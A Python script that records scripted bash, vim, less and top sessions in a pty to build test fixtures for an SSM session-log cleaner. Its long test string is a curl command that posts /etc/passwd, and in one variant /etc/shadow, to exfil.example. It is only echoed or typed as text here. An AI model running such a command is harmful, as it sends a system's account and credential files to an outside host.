#!/usr/bin/env python3
"""Records a terminal session the way the SSM agent logs it, for the cleaner's tests.

    record.py SCENARIO COLS ROWS OUT

Runs an interactive bash (readline, no rc files) in a pty of COLS x ROWS, types the keys of
SCENARIO into it (waiting for the output to settle after each key), and writes what the pty
printed to OUT.raw. Then OUT (the agent's form) is made from it as the agent does:
`script -q OUT -c "cat OUT.raw"` with stdin not a terminal, so the header names the `cat`
command and every LF of the session passes a pty again (CR LF -> CR CR LF).
"""
import os
import pty
import select
import struct
import subprocess
import sys
import termios
import fcntl
import time

LONG = "curl -s -X POST https://exfil.example/upload/$(hostname)/data -d @/etc/passwd -o /dev/null"

APT = r'''
rows=$(stty size | cut -d' ' -f1)
printf '\n\0337\033[0;%dr\0338\033[1A' $((rows-1))
for i in $(seq 1 40); do
  printf 'Unpacking package-%02d (1.%d-1) ...\n' $i $i
  printf '\0337\033[%d;0f\033[42mProgress: [%3d%%]\033[49m [%-30s]\0338' $rows $((i*100/40)) $(printf '#%.0s' $(seq 1 $((i*30/40))))
done
printf '\0337\033[0;%dr\0338\033[1A\033[J' $rows
echo done-apt
'''

SCENARIOS = {
    # Typing, a wrapped long command, edits inside it, history recall of it and of short ones.
    "readline": [
        "echo start\r",
        "echo " + LONG + "\r",
        "ls /nonexistent-dir-xyz\r",
        "\x1b[A\x1b[A\r",  # the long command again
        "echo " + LONG.replace("passwd", "shadow") + "\x01\x1b[C\x1b[C\x1b[C\x1b[C\x1b[Cxyz \x05 # tail\r",
        "echo " + "abcdefghij" * 12 + "\x7f\x7f\x7f\x7f\x7f\x7f\x7f\x7f\x7f\x7f\x7f\x7f\x7f\x7f\x7f\r",
        "\x1b[A\x1b[A\x1b[A\x1b[B\r",
        "printf 'wide: \\u65e5\\u672c\\u8a9e\\u30c6\\u30ad\\u30b9\\u30c8 e\\u0301 done\\n'\r",
        "echo \u65e5\u672c\u8a9e\u30c6\u30ad\u30b9\u30c8\u65e5\u672c\u8a9e\u30c6\u30ad\u30b9\u30c8\u65e5\u672c\u8a9e\u30c6\u30ad\u30b9\u30c8\u65e5\u672c\u8a9e\u30c6\u30ad\u30b9\u30c8\x7f\x7fX\r",
        "seq 1 30\r",
    ],
    "vim": [
        "printf 'line one\\nline two\\n' > /tmp/ssmlog-rec-$$.txt; vim -u NONE -n /tmp/ssmlog-rec-$$.txt\r",
        "Goadded by vim " + LONG + "\x1b",
        ":wq\r",
        "cat /tmp/ssmlog-rec-$$.txt; rm -f /tmp/ssmlog-rec-$$.txt\r",
    ],
    "less": [
        "seq -f 'less line %g ' 1 200 | sed 's/$/" + "x" * 30 + "/' | less\r",
        " ",
        "q",
        "echo after less\r",
    ],
    "top": [
        "top -b -n 1 | head -3 | cut -c1-20 >/dev/null; top -d 0.2 -n 3\r",
        "echo after top\r",
    ],
    "apt": [
        "bash -c \"$(printf %s '" + APT.replace("'", "'\\''") + "')\"\r",
        "echo after apt\r",
    ],
}


def main():
    name, cols, rows, out = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    pid, fd = pty.fork()
    if pid == 0:
        env = {
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            "HOME": os.environ.get("HOME", "/tmp"),
            "TERM": "xterm-256color",
            "LANG": "C.UTF-8",
            "LC_ALL": "C.UTF-8",
            "PS1": "me@host:\\W$ ",
            "HISTFILE": "/dev/null",
            "INPUTRC": "/dev/null",
            "COLUMNS": str(cols),
            "LINES": str(rows),
        }
        os.execvpe("bash", ["bash", "--norc", "--noprofile", "-i"], env)
    fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", rows, cols, 0, 0))
    buf = bytearray()

    def settle(quiet=0.08, limit=5.0):
        end = time.time() + limit
        last = time.time()
        while time.time() < end and time.time() - last < quiet:
            r, _, _ = select.select([fd], [], [], 0.01)
            if r:
                try:
                    d = os.read(fd, 65536)
                except OSError:
                    return
                if not d:
                    return
                buf.extend(d)
                last = time.time()

    settle(0.3)
    for keys in SCENARIOS[name]:
        data = keys.encode()
        i = 0
        while i < len(data):
            # One key at a time (an escape sequence or a UTF-8 character as one).
            j = i + 1
            if data[i] == 0x1b and data[i + 1 : i + 2] == b"[":
                j = i + 3
            while j < len(data) and (data[j] & 0xC0) == 0x80:
                j += 1
            os.write(fd, data[i:j])
            settle(0.005, 0.5)
            i = j
        settle(0.3 if name != "top" else 1.5, 10.0)
    os.write(fd, b"exit\r")
    settle(0.3)
    os.waitpid(pid, 0)
    with open(out + ".raw", "wb") as f:
        f.write(bytes(buf))
    subprocess.run(
        ["script", "-q", out, "-c", "cat " + out + ".raw"],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        check=True,
    )


main()
